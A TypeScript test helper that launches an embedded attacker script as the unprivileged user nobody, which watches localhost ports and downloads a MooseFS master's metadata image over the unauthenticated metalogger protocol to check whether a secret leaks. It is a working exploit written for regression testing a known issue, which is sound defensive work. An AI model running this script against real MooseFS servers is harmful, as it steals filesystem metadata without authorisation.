import { spawn, type ChildProcess } from 'node:child_process';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { waitFor } from './proc.js';

/** What the thief saw and got, per run. */
export interface TheftReport {
  /** Ports it saw listening on 127.0.0.1 (in /proc/net/tcp, as any user can read it). */
  seen: number[];
  attempts: number;
  /** Connections the kernel took (a SYN answered by SYN-ACK), per port. */
  connected: Record<string, number>;
  /** Connections reset or refused. */
  refused: number;
  /** Bytes of the master's metadata image it downloaded over the metalogger protocol. */
  downloaded: number;
  /** The image's first 8 bytes, as text (`MFSM 2.0`). */
  head: string;
  /** Whether `secret` appeared in what it downloaded. */
  secretSeen: boolean;
}

/**
 * The ~30-line attacker of issue #23 case 7, as user nobody: it watches /proc/net/tcp for `ports` to
 * listen on 127.0.0.1 and, every 5 ms while they do, connects to each; on the first (the metalogger
 * port, MATOML) it asks for the image the way a metalogger does (ANTOMA_DOWNLOAD_START 1, then
 * ANTOMA_DOWNLOAD_REQUEST blocks: no registration, no password) and keeps what it gets.
 */
const SCRIPT = String.raw`
import net from 'node:net'; import fs from 'node:fs';
const [portList, out, stopFile, secret] = process.argv.slice(2);
const ports = portList.split(',').map(Number);
const r = { seen: [], attempts: 0, connected: {}, refused: 0, downloaded: 0, head: '', secretSeen: false };
const listening = (port) => fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').some((l) => {
  const f = l.trim().split(/\s+/); return f[1] === '0100007F:' + port.toString(16).toUpperCase().padStart(4, '0') && f[3] === '0A'; });
const packet = (cmd, data) => { const b = Buffer.alloc(8 + data.length); b.writeUInt32BE(cmd, 0); b.writeUInt32BE(data.length, 4); data.copy(b, 8); return b; };
function attempt(port, download) {
  return new Promise((resolve) => {
    const s = net.connect({ host: '127.0.0.1', port }); let buf = Buffer.alloc(0); let size = -1; let got = Buffer.alloc(0);
    const done = () => { s.destroy(); resolve(); };
    s.setTimeout(2000, done);
    s.once('error', () => { r.refused++; done(); });
    s.once('connect', () => { r.connected[port] = (r.connected[port] ?? 0) + 1; if (!download) return done(); s.write(packet(60, Buffer.from([1]))); });
    s.on('data', (d) => { buf = Buffer.concat([buf, d]);
      while (buf.length >= 8 && buf.length >= 8 + buf.readUInt32BE(4)) {
        const cmd = buf.readUInt32BE(0); const data = buf.subarray(8, 8 + buf.readUInt32BE(4)); buf = buf.subarray(8 + data.length);
        if (cmd === 61 && data.length === 8) size = Number(data.readBigUInt64BE(0));
        else if (cmd === 63) got = Buffer.concat([got, data.subarray(16)]);
        else if (cmd !== 0) return done();
        if (cmd === 61 || cmd === 63) {
          if (size <= got.length) { record(got); return done(); }
          const req = Buffer.alloc(12); req.writeBigUInt64BE(BigInt(got.length)); req.writeUInt32BE(Math.min(500000, size - got.length), 8); s.write(packet(62, req));
        } } });
  });
}
function record(img) { if (img.length > r.downloaded) { r.downloaded = img.length; r.head = img.subarray(0, 8).toString('latin1'); r.secretSeen = img.includes(secret); } }
fs.writeFileSync(out + '.ready', '');
while (!fs.existsSync(stopFile)) {
  for (const [i, port] of ports.entries()) {
    if (!listening(port)) continue;
    if (!r.seen.includes(port)) r.seen.push(port);
    r.attempts++; await attempt(port, i === 0);
  }
  await new Promise((res) => setTimeout(res, 5));
}
fs.writeFileSync(out, JSON.stringify(r));
`;

export class MetadataThief {
  private constructor(
    private readonly dir: string,
    private readonly child: ChildProcess,
  ) {}

  /** Start the thief as `uid` (65534, nobody) against `ports` (the metalogger port first). */
  static async start(ports: readonly number[], secret: string, uid = 65534): Promise<MetadataThief> {
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'mfs-jobs-thief-'));
    await fs.chmod(dir, 0o755);
    await fs.writeFile(path.join(dir, 'thief.mjs'), SCRIPT, { mode: 0o644 });
    await fs.mkdir(path.join(dir, 'out'), { mode: 0o700 });
    await fs.chown(path.join(dir, 'out'), uid, uid);
    const out = path.join(dir, 'out', 'report.json');
    const child = spawn(
      'setpriv',
      [
        `--reuid=${uid}`,
        `--regid=${uid}`,
        '--clear-groups',
        process.execPath,
        path.join(dir, 'thief.mjs'),
        ports.join(','),
        out,
        path.join(dir, 'stop'),
        secret,
      ],
      { stdio: 'ignore' },
    );
    const thief = new MetadataThief(dir, child);
    try {
      await waitFor(
        'the thief to start',
        async () =>
          fs.access(`${out}.ready`).then(
            () => true,
            () => false,
          ),
        10_000,
      );
    } catch (err) {
      await thief.kill();
      throw err;
    }
    return thief;
  }

  /** Stop it and read what it got. */
  async stop(): Promise<TheftReport> {
    await fs.writeFile(path.join(this.dir, 'stop'), '');
    const out = path.join(this.dir, 'out', 'report.json');
    try {
      await waitFor(
        'the thief to report',
        async () =>
          fs.access(out).then(
            () => true,
            () => false,
          ),
        15_000,
      );
      return JSON.parse(await fs.readFile(out, 'utf8')) as TheftReport;
    } finally {
      await this.kill();
    }
  }

  async kill(): Promise<void> {
    if (this.child.exitCode === null && this.child.pid) this.child.kill('SIGKILL');
    await fs.rm(this.dir, { recursive: true, force: true });
  }
}
